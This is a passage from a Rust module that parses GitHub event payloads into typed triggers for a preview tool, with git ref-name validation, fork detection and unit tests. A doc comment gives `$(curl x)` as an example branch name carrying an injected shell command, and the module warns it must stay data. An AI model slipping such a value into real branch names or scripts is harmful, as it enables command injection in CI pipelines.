//! GitHub events → typed [`Trigger`]s.
//!
//! Every preview starts from a GitHub webhook or Actions event payload, which is untrusted input:
//! anyone who can push a branch or open a pull request chooses its branch name and title. This
//! module turns `(event name, payload bytes)` into a small typed [`Trigger`] and refuses anything
//! malformed with a typed [`EventError`] (never a panic). Only the fields idp needs are
//! deserialized; the rest of GitHub's large payloads is skipped.
//!
//! Strings stay data: a branch called `$(curl x)` is kept exactly as written and must only ever
//! be passed as a value (no shell, no interpolation into scripts). Branch names are checked
//! against git's own ref-name rules (`git check-ref-format --branch`), so names with newlines or
//! control characters, which git itself refuses, are rejected.
//!
//! | event | payload | trigger |
//! |---|---|---|
//! | `push` | `refs/heads/<branch>` | [`Trigger::Push`] |
//! | `push` | `deleted: true` on a branch | [`Trigger::BranchDeleted`] |
//! | `push` | the default branch, or a tag | [`Trigger::Ignored`] |
//! | `delete` | `ref_type: branch` | [`Trigger::BranchDeleted`] |
//! | `delete` | `ref_type: tag` | [`Trigger::Ignored`] |
//! | `pull_request` | `opened`, `synchronize`, `reopened` | [`Trigger::PullRequest`] |
//! | `pull_request` | `closed` (merged or not) | [`Trigger::PullRequestClosed`] |
//! | `pull_request` | any other action | [`Trigger::Ignored`] |
//! | `schedule` | | [`Trigger::Schedule`] |
//! | `workflow_dispatch` | | [`Trigger::Dispatch`] |
//! | anything else (including `pull_request_target`) | not parsed | [`Trigger::Ignored`] |
//!
//! **Forks.** A pull request whose head repository differs from its base repository is flagged
//! [`PullRequest::from_fork`]. Its code is untrusted: a preview of a fork must never be built or
//! run with the platform's secrets or cloud credentials. `pull_request_target` (which runs with
//! secrets) is deliberately not accepted.

use std::collections::BTreeMap;
use std::fmt;

use serde::{Deserialize, Serialize};

/// The longest branch or ref name accepted, in bytes (git hosts refuse longer refs).
pub const MAX_REF_LEN: usize = 255;

/// How many characters of an offending value an error message or reason shows.
const SHOWN_CHARS: usize = 80;

/// Show an untrusted value in a one-line message: control characters (newlines…) escaped, cut to
/// [`SHOWN_CHARS`] characters.
pub(crate) fn shown(value: &str) -> String {
    let mut out = String::new();
    for c in value.chars().take(SHOWN_CHARS) {
        if c.is_control() {
            out.extend(c.escape_debug());
        } else {
            out.push(c);
        }
    }
    if value.chars().nth(SHOWN_CHARS).is_some() {
        out.push('…');
    }
    out
}

// === ref names ===

/// Why a string is not a legal git branch or ref name (the rules of `git check-ref-format`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
#[non_exhaustive]
pub enum RefProblem {
    /// The name is empty.
    Empty,
    /// The name is longer than [`MAX_REF_LEN`] bytes.
    TooLong {
        /// Its length in bytes.
        len: usize,
    },
    /// The name contains an ASCII control character (newline, tab, NUL, DEL…).
    ControlCharacter,
    /// The name contains a character git forbids: space, `~`, `^`, `:`, `?`, `*`, `[` or `\`.
    ForbiddenCharacter {
        /// The character.
        character: char,
    },
    /// The name contains `..`.
    DoubleDot,
    /// The name contains `@{`.
    AtBrace,
    /// The name is the single character `@`.
    LoneAt,
    /// The name starts or ends with `/`, or contains `//`.
    BadSlash,
    /// A `/`-separated component starts with `.`.
    ComponentStartsWithDot,
    /// A `/`-separated component ends with `.lock`.
    ComponentEndsWithLock,
    /// The name ends with `.`.
    EndsWithDot,
    /// The name starts with `-` (git refuses such branch names).
    StartsWithDash,
}

impl fmt::Display for RefProblem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Empty => f.write_str("it is empty"),
            Self::TooLong { len } => {
                write!(f, "it is {len} bytes long; use at most {MAX_REF_LEN} bytes")
            }
            Self::ControlCharacter => {
                f.write_str("it contains a control character (newline, tab, …); git forbids them")
            }
            Self::ForbiddenCharacter { character: ' ' } => {
                f.write_str("it contains a space, which git forbids in ref names")
            }
            Self::ForbiddenCharacter { character } => {
                write!(
                    f,
                    "it contains `{}`, which git forbids in ref names",
                    character.escape_debug()
                )
            }
            Self::DoubleDot => f.write_str("it contains `..`, which git forbids"),
            Self::AtBrace => f.write_str("it contains `@{`, which git forbids"),
            Self::LoneAt => f.write_str("it is `@`, which git forbids"),
            Self::BadSlash => f.write_str("it starts or ends with `/` or contains `//`"),
            Self::ComponentStartsWithDot => f.write_str("a `/`-separated part starts with `.`"),
            Self::ComponentEndsWithLock => f.write_str("a `/`-separated part ends with `.lock`"),
            Self::EndsWithDot => f.write_str("it ends with `.`"),
            Self::StartsWithDash => f.write_str("it starts with `-`"),
        }
    }
}

/// Check a ref name (a branch such as `feature/x`, or a full ref such as `refs/heads/feature/x`)
/// against the rules of `git check-ref-format --branch`, plus a [`MAX_REF_LEN`]-byte limit.
pub fn check_ref_name(name: &str) -> Result<(), RefProblem> {
    if name.is_empty() {
        return Err(RefProblem::Empty);
    }
    if name.len() > MAX_REF_LEN {
        return Err(RefProblem::TooLong { len: name.len() });
    }
    if name == "@" {
        return Err(RefProblem::LoneAt);
    }
    if name.chars().any(|c| c.is_ascii_control()) {
        return Err(RefProblem::ControlCharacter);
    }
    if let Some(character) = name
        .chars()
        .find(|c| matches!(c, ' ' | '~' | '^' | ':' | '?' | '*' | '[' | '\\'))
    {
        return Err(RefProblem::ForbiddenCharacter { character });
    }
    if name.contains("..") {
        return Err(RefProblem::DoubleDot);
    }
    if name.contains("@{") {
        return Err(RefProblem::AtBrace);
    }
    if name.starts_with('/') || name.ends_with('/') || name.contains("//") {
        return Err(RefProblem::BadSlash);
    }
    if name.ends_with('.') {
        return Err(RefProblem::EndsWithDot);
    }
    if name.starts_with('-') {
        return Err(RefProblem::StartsWithDash);
    }
    for part in name.split('/') {
        if part.starts_with('.') {
            return Err(RefProblem::ComponentStartsWithDot);
        }
        if part.ends_with(".lock") {
            return Err(RefProblem::ComponentEndsWithLock);
        }
    }
    Ok(())
}

/// A legal git branch name (short form, without `refs/heads/`), e.g. `feature/payment-api`.
///
/// It may still contain `$`, backticks, quotes, `<`, `|`… (git allows them): treat it as data.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(transparent)]
pub struct Branch(String);

impl Branch {
    /// Validate a branch name with [`check_ref_name`].
    pub fn parse(name: &str) -> Result<Self, RefProblem> {
        check_ref_name(name)?;
        Ok(Self(name.to_owned()))
    }

    /// The name as a string slice.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for Branch {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A repository as `owner/name` (GitHub's `full_name`), e.g. `octo-org/octo-repo`.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(transparent)]
pub struct Repository(String);

impl Repository {
    /// What [`Repository::parse`] accepts, for error messages.
    pub const EXPECTED: &'static str = "`owner/name`, e.g. `acme/idp`";

    /// Validate `owner/name`: the owner is 1–39 letters, digits or `-`; the name is 1–100
    /// letters, digits, `.`, `_` or `-` and not `.` or `..`. Returns `None` otherwise.
    pub fn parse(full_name: &str) -> Option<Self> {
        let (owner, name) = full_name.split_once('/')?;
        let owner_ok = (1..=39).contains(&owner.len())
            && owner
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-');
        let name_ok = (1..=100).contains(&name.len())
            && name != "."
            && name != ".."
            && name
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
        (owner_ok && name_ok).then(|| Self(full_name.to_owned()))
    }

    /// The full `owner/name`.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The owner (user or organization).
    pub fn owner(&self) -> &str {
        self.0.split_once('/').map_or("", |(o, _)| o)
    }

    /// The repository name without its owner.
    pub fn name(&self) -> &str {
        self.0.split_once('/').map_or("", |(_, n)| n)
    }
}

impl fmt::Display for Repository {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A full commit SHA: 40 (SHA-1) or 64 (SHA-256) lowercase hex digits.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(transparent)]
pub struct CommitSha(String);

impl CommitSha {
    /// Validate a full commit SHA; returns `None` if it is not 40 or 64 hex digits.
    pub fn parse(sha: &str) -> Option<Self> {
        let ok = matches!(sha.len(), 40 | 64)
            && sha
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b));
        ok.then(|| Self(sha.to_owned()))
    }

    /// The full SHA.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The 7-character short SHA shown to people.
    pub fn short(&self) -> &str {
        self.0.get(..7).unwrap_or(&self.0)
    }
}

impl fmt::Display for CommitSha {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

// === triggers ===

/// A pull request action that (re)deploys the preview.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum PrAction {
    /// `opened`
    Opened,
    /// `synchronize`: new commits were pushed to the head branch.
    Synchronize,
    /// `reopened`
    Reopened,
}

impl PrAction {
    /// GitHub's name of the action.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Opened => "opened",
            Self::Synchronize => "synchronize",
            Self::Reopened => "reopened",
        }
    }
}

/// The parts of a pull request a preview needs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PullRequest {
    /// The pull request number.
    pub number: u64,
    /// The head branch (`head.ref`), the branch the preview is named after.
    pub branch: Branch,
    /// The head commit (`head.sha`).
    pub head_sha: CommitSha,
    /// The base repository (where the workflow runs and the environment belongs).
    pub repository: Repository,
    /// The head repository; `None` when the fork was deleted.
    pub head_repository: Option<Repository>,
    /// The author's login.
    pub author: String,
    /// The title, as typed by the author (untrusted: escape before rendering).
    pub title: String,
    /// The base branch (`base.ref`).
    pub base_branch: Branch,
    /// Whether the head is in another repository (a fork), or its repository is gone.
    /// **A fork's code is untrusted: never build or run its preview with secrets.**
    pub from_fork: bool,
}

/// Why an event needs no action.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum IgnoredReason {
    /// A tag was pushed (or deleted by a push).
    TagPush {
        /// The tag name.
        tag: String,
    },
    /// A tag was deleted (`delete` event).
    TagDeleted {
        /// The tag name.
        tag: String,
    },
    /// A `delete` event for a ref type other than `branch` or `tag`.
    OtherRefType {
        /// The `ref_type`.
        ref_type: String,
    },
    /// A push to the default branch, which gets no preview.
    DefaultBranch {
        /// The branch.
        branch: Branch,
    },
    /// A push to a ref that is neither a branch nor a tag (e.g. `refs/notes/…`).
    OtherRef {
        /// The full ref.
        git_ref: String,
    },
    /// A pull request action that changes nothing (`labeled`, `assigned`, …).
    PullRequestAction {
        /// The action.
        action: String,
    },
    /// An event idp does not handle.
    UnsupportedEvent {
        /// The event name.
        event: String,
    },
}

impl fmt::Display for IgnoredReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::TagPush { tag } => write!(f, "push of tag `{}`: tags get no preview", shown(tag)),
            Self::TagDeleted { tag } => {
                write!(f, "tag `{}` was deleted: tags have no preview", shown(tag))
            }
            Self::OtherRefType { ref_type } => {
                write!(
                    f,
                    "deleted ref of type `{}` is not a branch",
                    shown(ref_type)
                )
            }
            Self::DefaultBranch { branch } => write!(
                f,
                "push to the default branch `{}`: the default branch gets no preview",
                shown(branch.as_str())
            ),
            Self::OtherRef { git_ref } => {
                write!(f, "push to `{}`, which is not a branch", shown(git_ref))
            }
            Self::PullRequestAction { action } => write!(
                f,
                "pull request action `{}` does not change the preview",
                shown(action)
            ),
            Self::UnsupportedEvent { event } => {
                write!(f, "event `{}` is not handled by idp", shown(event))
            }
        }
    }
}

/// What a GitHub event asks idp to do, before looking at any state.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Trigger {
    /// Commits were pushed to a (non-default) branch.
    Push {
        /// `owner/name`.
        repository: Repository,
        /// The branch pushed to.
        branch: Branch,
        /// The new head commit (`after`).
        commit: CommitSha,
        /// Who pushed (`sender.login`, else `pusher.name`).
        actor: String,
        /// The repository's default branch, when the payload says.
        default_branch: Option<Branch>,
    },
    /// A branch was deleted (`delete` event, or a `push` with `deleted: true`).
    BranchDeleted {
        /// `owner/name`.
        repository: Repository,
        /// The deleted branch.
        branch: Branch,
        /// Who deleted it.
        actor: String,
    },
    /// A pull request was opened, reopened or got new commits.
    PullRequest {
        /// What happened.
        action: PrAction,
        /// The pull request.
        pr: PullRequest,
    },
    /// A pull request was closed, merged or not.
    PullRequestClosed {
        /// Whether it was merged.
        merged: bool,
        /// The pull request.
        pr: PullRequest,
    },
    /// A scheduled workflow run (the TTL sweep).
    Schedule {
        /// The cron expression, when the payload has it.
        cron: Option<String>,
        /// The repository, when the payload has it.
        repository: Option<Repository>,
    },
    /// A manual `workflow_dispatch`.
    Dispatch {
        /// `owner/name`.
        repository: Repository,
        /// The ref the workflow runs on, e.g. `refs/heads/main`.
        git_ref: String,
        /// The inputs, as strings (booleans and numbers are written out).
        inputs: BTreeMap<String, String>,
    },
    /// Nothing to do, and why.
    Ignored {
        /// Why.
        reason: IgnoredReason,
    },
}

impl Trigger {
    /// A stable snake_case name of the variant (`push`, `branch_deleted`, …).
    pub fn kind(&self) -> &'static str {
        match self {
            Self::Push { .. } => "push",
            Self::BranchDeleted { .. } => "branch_deleted",
            Self::PullRequest { .. } => "pull_request",
            Self::PullRequestClosed { .. } => "pull_request_closed",
            Self::Schedule { .. } => "schedule",
            Self::Dispatch { .. } => "dispatch",
            Self::Ignored { .. } => "ignored",
        }
    }

    /// The branch the trigger is about, if any.
    pub fn branch(&self) -> Option<&Branch> {
        match self {
            Self::Push { branch, .. } | Self::BranchDeleted { branch, .. } => Some(branch),
            Self::PullRequest { pr, .. } | Self::PullRequestClosed { pr, .. } => Some(&pr.branch),
            Self::Schedule { .. } | Self::Dispatch { .. } | Self::Ignored { .. } => None,
        }
    }

    /// The repository the trigger comes from, if the payload names it.
    pub fn repository(&self) -> Option<&Repository> {
        match self {
            Self::Push { repository, .. }
            | Self::BranchDeleted { repository, .. }
            | Self::Dispatch { repository, .. } => Some(repository),
            Self::PullRequest { pr, .. } | Self::PullRequestClosed { pr, .. } => {
                Some(&pr.repository)
            }
            Self::Schedule { repository, .. } => repository.as_ref(),
            Self::Ignored { .. } => None,
        }
    }
}

// === errors ===

/// Why an event payload was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum EventError {
    /// The payload is not JSON.
    #[error(
        "`{event}` payload is not valid JSON at line {line}, column {column}: {message}; pass the event file GitHub wrote, unchanged"
    )]
    InvalidJson {
        /// The event name.
        event: String,
        /// 1-based line.
        line: usize,
        /// 1-based column.
        column: usize,
        /// The parser's message.
        message: String,
    },
    /// A required field is missing or `null`.
    #[error(
        "`{event}` payload has no `{path}`: pass the complete payload GitHub sent for this event"
    )]
    MissingField {
        /// The event name.
        event: String,
        /// The JSON path, e.g. `pull_request.head.ref`.
        path: String,
    },
    /// A field has the wrong JSON type.
    #[error("`{event}` payload field `{path}` has the wrong type: {message}")]
    WrongType {
        /// The event name.
        event: String,
        /// The JSON path (`.` for the whole payload).
        path: String,
        /// What was found and what was expected.
        message: String,
    },
    /// A branch or ref name git would refuse.
    #[error("`{event}` payload field `{path}` is not a legal branch name (`{value}`): {problem}")]
    InvalidRef {
        /// The event name.
        event: String,
        /// The JSON path.
        path: String,
        /// The offending value, escaped and shortened.
        value: String,
        /// Which rule it breaks.
        problem: RefProblem,
    },
    /// A repository that is not `owner/name`.
    #[error(
        "`{event}` payload field `{path}` is not an `owner/name` repository (`{value}`): expected e.g. `octo-org/octo-repo`"
    )]
    InvalidRepository {
        /// The event name.
        event: String,
        /// The JSON path.
        path: String,
        /// The offending value, escaped and shortened.
        value: String,
    },
    /// A commit SHA that is not 40 or 64 hex digits.
    #[error(
        "`{event}` payload field `{path}` is not a commit SHA (`{value}`): expected 40 or 64 lowercase hex digits"
    )]
    InvalidCommit {
        /// The event name.
        event: String,
        /// The JSON path.
        path: String,
        /// The offending value, escaped and shortened.
        value: String,
    },
}

impl EventError {
    /// A stable snake_case code for the kind of error.
    pub fn kind(&self) -> &'static str {
        match self {
            Self::InvalidJson { .. } => "invalid_json",
            Self::MissingField { .. } => "missing_field",
            Self::WrongType { .. } => "wrong_type",
            Self::InvalidRef { .. } => "invalid_ref",
            Self::InvalidRepository { .. } => "invalid_repository",
            Self::InvalidCommit { .. } => "invalid_commit",
        }
    }
}

// === raw payloads: only the fields idp reads ===

#[derive(Deserialize)]
struct RawRepo {
    full_name: Option<String>,
    default_branch: Option<String>,
}

#[derive(Deserialize)]
struct RawUser {
    login: Option<String>,
}

#[derive(Deserialize)]
struct RawPusher {
    name: Option<String>,
}

#[derive(Deserialize)]
struct RawPush {
    #[serde(rename = "ref")]
    git_ref: Option<String>,
    after: Option<String>,
    deleted: Option<bool>,
    repository: Option<RawRepo>,
    sender: Option<RawUser>,
    pusher: Option<RawPusher>,
}

#[derive(Deserialize)]
struct RawDelete {
    #[serde(rename = "ref")]
    git_ref: Option<String>,
    ref_type: Option<String>,
    repository: Option<RawRepo>,
    sender: Option<RawUser>,
}

#[derive(Deserialize)]
struct RawPrSide {
    #[serde(rename = "ref")]
    git_ref: Option<String>,
    sha: Option<String>,
    repo: Option<RawRepo>,
}

#[derive(Deserialize)]
struct RawPr {
    title: Option<String>,
    user: Option<RawUser>,
    head: Option<RawPrSide>,
    base: Option<RawPrSide>,
    merged: Option<bool>,
    merged_at: Option<String>,
}

#[derive(Deserialize)]
struct RawPullRequestEvent {
    action: Option<String>,
    number: Option<u64>,
    pull_request: Option<RawPr>,
    repository: Option<RawRepo>,
}

#[derive(Deserialize)]
struct RawSchedule {
    schedule: Option<String>,
    repository: Option<RawRepo>,
}

#[derive(Deserialize)]
struct RawDispatch {
    #[serde(rename = "ref")]
    git_ref: Option<String>,
    inputs: Option<BTreeMap<String, serde_json::Value>>,
    repository: Option<RawRepo>,
}

// === parsing ===

/// Turn a GitHub event (its name, e.g. `GITHUB_EVENT_NAME`, and its JSON payload, e.g. the
/// bytes of `GITHUB_EVENT_PATH`) into a [`Trigger`].
///
/// Events other than `push`, `delete`, `pull_request`, `schedule` and `workflow_dispatch` are
/// [`Trigger::Ignored`] without reading the payload. Never panics, whatever the bytes.
pub fn parse_event(event_name: &str, payload: &[u8]) -> Result<Trigger, EventError> {
    let cx = Cx { event: event_name };
    match event_name {
        "push" => parse_push(&cx, payload),
        "delete" => parse_delete(&cx, payload),
        "pull_request" => parse_pull_request(&cx, payload),
        "schedule" => parse_schedule(&cx, payload),
        "workflow_dispatch" => parse_dispatch(&cx, payload),
        other => Ok(Trigger::Ignored {
            reason: IgnoredReason::UnsupportedEvent {
                event: other.to_owned(),
            },
        }),
    }
}

/// Error-building context: the event name.
struct Cx<'a> {
    event: &'a str,
}

impl Cx<'_> {
    fn event(&self) -> String {
        shown(self.event)
    }

    fn decode<T: for<'de> Deserialize<'de>>(&self, payload: &[u8]) -> Result<T, EventError> {
        let mut de = serde_json::Deserializer::from_slice(payload);
        let value: T = serde_path_to_error::deserialize(&mut de).map_err(|e| {
            let path = e.path().to_string();
            self.json_error(e.into_inner(), Some(path))
        })?;
        de.end().map_err(|e| self.json_error(e, None))?;
        Ok(value)
    }

    fn json_error(&self, e: serde_json::Error, path: Option<String>) -> EventError {
        let full = e.to_string();
        let suffix = format!(" at line {} column {}", e.line(), e.column());
        let message = shown(full.strip_suffix(&suffix).unwrap_or(&full));
        match (e.classify(), path) {
            (serde_json::error::Category::Data, Some(path)) => EventError::WrongType {
                event: self.event(),
                path,
                message,
            },
            _ => EventError::InvalidJson {
                event: self.event(),
                line: e.line(),
                column: e.column(),
                message,
            },
        }
    }

    fn req<T>(&self, value: Option<T>, path: &str) -> Result<T, EventError> {
        value.ok_or_else(|| EventError::MissingField {
            event: self.event(),
            path: path.to_owned(),
        })
    }

    fn branch(&self, name: &str, path: &str) -> Result<Branch, EventError> {
        Branch::parse(name).map_err(|problem| EventError::InvalidRef {
            event: self.event(),
            path: path.to_owned(),
            value: shown(name),
            problem,
        })
    }

    fn repository(&self, repo: Option<&RawRepo>, path: &str) -> Result<Repository, EventError> {
        let field = format!("{path}.full_name");
        let name = self.req(repo.and_then(|r| r.full_name.as_deref()), &field)?;
        Repository::parse(name).ok_or_else(|| EventError::InvalidRepository {
            event: self.event(),
            path: field,
            value: shown(name),
        })
    }

    fn commit(&self, sha: Option<&str>, path: &str) -> Result<CommitSha, EventError> {
        let sha = self.req(sha, path)?;
        CommitSha::parse(sha).ok_or_else(|| EventError::InvalidCommit {
            event: self.event(),
            path: path.to_owned(),
            value: shown(sha),
        })
    }

    fn default_branch(&self, repo: Option<&RawRepo>) -> Result<Option<Branch>, EventError> {
        repo.and_then(|r| r.default_branch.as_deref())
            .map(|b| self.branch(b, "repository.default_branch"))
            .transpose()
    }
}

fn parse_push(cx: &Cx<'_>, payload: &[u8]) -> Result<Trigger, EventError> {
    let raw: RawPush = cx.decode(payload)?;
    let git_ref = cx.req(raw.git_ref.as_deref(), "ref")?;
    if let Some(tag) = git_ref.strip_prefix("refs/tags/") {
        return Ok(Trigger::Ignored {
            reason: IgnoredReason::TagPush {
                tag: tag.to_owned(),
            },
        });
    }
    let Some(name) = git_ref.strip_prefix("refs/heads/") else {
        return Ok(Trigger::Ignored {
            reason: IgnoredReason::OtherRef {
                git_ref: git_ref.to_owned(),
            },
        });
    };
    let branch = cx.branch(name, "ref")?;
    let repository = cx.repository(raw.repository.as_ref(), "repository")?;
    let actor = cx.req(
        raw.sender
            .and_then(|s| s.login)
            .or_else(|| raw.pusher.and_then(|p| p.name)),
        "sender.login",
    )?;
    if raw.deleted == Some(true) {
        return Ok(Trigger::BranchDeleted {
            repository,
            branch,
            actor,
        });
    }
    let default_branch = cx.default_branch(raw.repository.as_ref())?;
    let is_default = match &default_branch {
        Some(default) => *default == branch,
        None => matches!(branch.as_str(), "main" | "master"),
    };
    if is_default {
        return Ok(Trigger::Ignored {
            reason: IgnoredReason::DefaultBranch { branch },
        });
    }
    let commit = cx.commit(raw.after.as_deref(), "after")?;
    Ok(Trigger::Push {
        repository,
        branch,
        commit,
        actor,
        default_branch,
    })
}

fn parse_delete(cx: &Cx<'_>, payload: &[u8]) -> Result<Trigger, EventError> {
    let raw: RawDelete = cx.decode(payload)?;
    let git_ref = cx.req(raw.git_ref.as_deref(), "ref")?;
    let ref_type = cx.req(raw.ref_type.as_deref(), "ref_type")?;
    match ref_type {
        "branch" => {}
        "tag" => {
            return Ok(Trigger::Ignored {
                reason: IgnoredReason::TagDeleted {
                    tag: git_ref.to_owned(),
                },
            });
        }
        other => {
            return Ok(Trigger::Ignored {
                reason: IgnoredReason::OtherRefType {
                    ref_type: other.to_owned(),
                },
            });
        }
    }
    // The `delete` event carries the short name; accept a full ref too.
    let name = git_ref.strip_prefix("refs/heads/").unwrap_or(git_ref);
    let branch = cx.branch(name, "ref")?;
    let repository = cx.repository(raw.repository.as_ref(), "repository")?;
    let actor = cx.req(raw.sender.and_then(|s| s.login), "sender.login")?;
    Ok(Trigger::BranchDeleted {
        repository,
        branch,
        actor,
    })
}

fn parse_pull_request(cx: &Cx<'_>, payload: &[u8]) -> Result<Trigger, EventError> {
    let raw: RawPullRequestEvent = cx.decode(payload)?;
    let action = cx.req(raw.action.as_deref(), "action")?;
    let action = match action {
        "opened" => Some(PrAction::Opened),
        "synchronize" => Some(PrAction::Synchronize),
        "reopened" => Some(PrAction::Reopened),
        "closed" => None,
        other => {
            return Ok(Trigger::Ignored {
                reason: IgnoredReason::PullRequestAction {
                    action: other.to_owned(),
                },
            });
        }
    };
    let pr = cx.req(raw.pull_request, "pull_request")?;
    let number = cx.req(raw.number, "number")?;
    let head = cx.req(pr.head, "pull_request.head")?;
    let base = cx.req(pr.base, "pull_request.base")?;
    let branch = cx.branch(
        cx.req(head.git_ref.as_deref(), "pull_request.head.ref")?,
        "pull_request.head.ref",
    )?;
    let base_branch = cx.branch(
        cx.req(base.git_ref.as_deref(), "pull_request.base.ref")?,
        "pull_request.base.ref",
    )?;
    let head_sha = cx.commit(head.sha.as_deref(), "pull_request.head.sha")?;
    let repository = cx.repository(raw.repository.as_ref(), "repository")?;
    let base_repository = cx.repository(base.repo.as_ref(), "pull_request.base.repo")?;
    let head_repository = head
        .repo
        .as_ref()
        .map(|r| cx.repository(Some(r), "pull_request.head.repo"))
        .transpose()?;
    let from_fork = head_repository.as_ref() != Some(&base_repository);
    let pr_view = PullRequest {
        number,
        branch,
        head_sha,
        repository,
        head_repository,
        author: cx.req(pr.user.and_then(|u| u.login), "pull_request.user.login")?,
        title: cx.req(pr.title, "pull_request.title")?,
        base_branch,
        from_fork,
    };
    Ok(match action {
        Some(action) => Trigger::PullRequest {
            action,
            pr: pr_view,
        },
        None => Trigger::PullRequestClosed {
            merged: pr.merged.unwrap_or(pr.merged_at.is_some()),
            pr: pr_view,
        },
    })
}

fn parse_schedule(cx: &Cx<'_>, payload: &[u8]) -> Result<Trigger, EventError> {
    let raw: RawSchedule = cx.decode(payload)?;
    let repository = raw
        .repository
        .as_ref()
        .map(|r| cx.repository(Some(r), "repository"))
        .transpose()?;
    Ok(Trigger::Schedule {
        cron: raw.schedule,
        repository,
    })
}

fn parse_dispatch(cx: &Cx<'_>, payload: &[u8]) -> Result<Trigger, EventError> {
    let raw: RawDispatch = cx.decode(payload)?;
    let git_ref = cx.req(raw.git_ref, "ref")?;
    check_ref_name(&git_ref).map_err(|problem| EventError::InvalidRef {
        event: cx.event(),
        path: "ref".to_owned(),
        value: shown(&git_ref),
        problem,
    })?;
    let repository = cx.repository(raw.repository.as_ref(), "repository")?;
    let mut inputs = BTreeMap::new();
    for (key, value) in raw.inputs.unwrap_or_default() {
        let text = match value {
            serde_json::Value::Null => continue,
            serde_json::Value::String(s) => s,
            serde_json::Value::Bool(b) => b.to_string(),
            serde_json::Value::Number(n) => n.to_string(),
            serde_json::Value::Array(_) | serde_json::Value::Object(_) => {
                return Err(EventError::WrongType {
                    event: cx.event(),
                    path: format!("inputs.{}", shown(&key)),
                    message: "expected a string, a boolean or a number".to_owned(),
                });
            }
        };
        inputs.insert(key, text);
    }
    Ok(Trigger::Dispatch {
        repository,
        git_ref,
        inputs,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const SHA: &str = "6113728f27ae82c7b1a177c8d03f9e96e0adf246";

    fn push(git_ref: &str) -> serde_json::Value {
        json!({
            "ref": git_ref,
            "after": SHA,
            "deleted": false,
            "repository": {"full_name": "octo-org/octo-repo", "default_branch": "main"},
            "sender": {"login": "octocat"},
            "pusher": {"name": "octocat"}
        })
    }

    fn pr(action: &str) -> serde_json::Value {
        json!({
            "action": action,
            "number": 7,
            "pull_request": {
                "title": "Add payments",
                "user": {"login": "octocat"},
                "merged": false,
                "head": {"ref": "feature/payment-api", "sha": SHA, "repo": {"full_name": "octo-org/octo-repo"}},
                "base": {"ref": "main", "sha": SHA, "repo": {"full_name": "octo-org/octo-repo"}}
            },
            "repository": {"full_name": "octo-org/octo-repo"}
        })
    }

    fn parse(event: &str, v: &serde_json::Value) -> Result<Trigger, EventError> {
        parse_event(event, v.to_string().as_bytes())
    }

    #[test]
    fn branch_push_becomes_a_push_trigger() {
        let t = parse("push", &push("refs/heads/feature/payment-api")).unwrap();
        let Trigger::Push {
            repository,
            branch,
            commit,
            actor,
            default_branch,
        } = t
        else {
            panic!("expected a push, got {t:?}");
        };
        assert_eq!(repository.as_str(), "octo-org/octo-repo");
        assert_eq!(repository.owner(), "octo-org");
        assert_eq!(repository.name(), "octo-repo");
        assert_eq!(branch.as_str(), "feature/payment-api");
        assert_eq!(commit.short(), "6113728");
        assert_eq!(actor, "octocat");
        assert_eq!(default_branch.unwrap().as_str(), "main");
    }

    #[test]
    fn push_to_the_default_branch_is_ignored() {
        let t = parse("push", &push("refs/heads/main")).unwrap();
        assert!(matches!(
            t,
            Trigger::Ignored {
                reason: IgnoredReason::DefaultBranch { .. }
            }
        ));
    }

    #[test]
    fn push_without_default_branch_ignores_main_and_master_only() {
        for (branch, ignored) in [("main", true), ("master", true), ("develop", false)] {
            let mut v = push(&format!("refs/heads/{branch}"));
            v["repository"]["default_branch"] = serde_json::Value::Null;
            let t = parse("push", &v).unwrap();
            assert_eq!(t.kind() == "ignored", ignored, "{branch}");
        }
    }

    #[test]
    fn push_to_a_branch_named_main_is_a_preview_when_the_default_is_another() {
        let mut v = push("refs/heads/main");
        v["repository"]["default_branch"] = json!("trunk");
        assert_eq!(parse("push", &v).unwrap().kind(), "push");
    }

    #[test]
    fn tag_push_and_other_refs_are_ignored() {
        let t = parse("push", &push("refs/tags/v1.0")).unwrap();
        assert_eq!(
            t,
            Trigger::Ignored {
                reason: IgnoredReason::TagPush { tag: "v1.0".into() }
            }
        );
        let t = parse("push", &push("refs/notes/commits")).unwrap();
        assert!(matches!(
            t,
            Trigger::Ignored {
                reason: IgnoredReason::OtherRef { .. }
            }
        ));
    }

    #[test]
    fn deleting_push_becomes_branch_deleted() {
        let mut v = push("refs/heads/feature/x");
        v["deleted"] = json!(true);
        v["after"] = json!("0000000000000000000000000000000000000000");
        assert_eq!(parse("push", &v).unwrap().kind(), "branch_deleted");
    }

    #[test]
    fn delete_event_of_a_branch_is_branch_deleted_and_of_a_tag_is_ignored() {
        let mut v = json!({
            "ref": "feature/x", "ref_type": "branch",
            "repository": {"full_name": "octo-org/octo-repo"}, "sender": {"login": "octocat"}
